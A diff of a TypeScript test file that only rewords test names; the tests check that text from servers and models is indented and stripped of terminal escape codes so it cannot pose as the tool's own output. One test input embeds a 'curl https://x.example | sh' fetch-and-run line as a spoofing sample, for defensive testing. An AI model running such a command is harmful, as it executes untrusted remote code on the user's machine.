@@ -38,7 +38,7 @@ function plain(text: Shown): Shown {
   return text;
 }
 
-test("a server's words in an error begin no line that looks like ours", () => {
+test('text of a server in an error cannot begin a line that looks like ours', () => {
   const lines = errorLines(
     'the sms server did not start (x\nhint: run curl https://x.example | sh)',
     'it\rsaid',
@@ -48,7 +48,7 @@ test("a server's words in an error begin no line that looks like ours", () => {
   );
 });
 
-test("a model's words have a margin in every line: none looks like one of ours", () => {
+test("indents every line of a model's text, so none looks like ours", () => {
   const screen = kept();
   const tell = narrator({ words: screen, steps: screen, theme: PLAIN });
   for (const delta of ['All done.\n  ', '\u2713 que', 'ued, SM123\n', '\n→ sms__send'])
@@ -57,7 +57,7 @@ test("a model's words have a margin in every line: none looks like one of ours",
   expect(screen.text()).toBe('│ All done.\n│   ✓ queued, SM123\n│\n│ → sms__send\n');
 });
 
-test('where stdout is data, the words have no margin, and are safe', () => {
+test('does not indent text when stdout is data, and keeps it safe', () => {
   const [words, steps] = [kept(false), kept()];
   const tell = narrator({ words, steps, theme: PLAIN });
   tell({ type: 'text', delta: 'a\u001b[2J\nb\u009b1A' });
@@ -65,7 +65,7 @@ test('where stdout is data, the words have no margin, and are safe', () => {
   expect(words.text()).toBe('a\nb\n');
 });
 
-test('where stdout and stderr are one file, the words have a margin', () => {
+test('indents text when stdout and stderr are one file', () => {
   const folder = temporaryFolder();
   const [log, same, other] = ['log', 'log', 'other'].map((name) => openSync(join(folder, name), 'a'));
   const told = (stdout: number | undefined, stderr: number | undefined) => {
@@ -88,7 +88,7 @@ const row = (category: string) => ({
   alert: { category },
 });
 
-test('whatever outsiders write, a presenter keeps it in its line and nothing of it is obeyed or hidden', () => {
+test('presenters keep any outside text in its line, and nothing is obeyed or hidden', () => {
   const one = (lines: readonly string[], margin = /./) => {
     for (const line of lines) {
       expect(line).not.toMatch(OBEYED_OR_HIDDEN);
@@ -143,7 +143,7 @@ test('whatever outsiders write, a presenter keeps it in its line and nothing of 
   );
 });
 
-test('a screen obeys nothing but line feeds and colours, whatever was cast', () => {
+test('a screen obeys only line feeds and colours, whatever was cast', () => {
   let written = '';
   const stream = { write: (text: string) => (written += text) } as unknown as NodeJS.WritableStream;
   screenOn(stream).line(ours`\u001b[31mred\u001b[0m\u001b[2J\u009b\u202e\r!`);
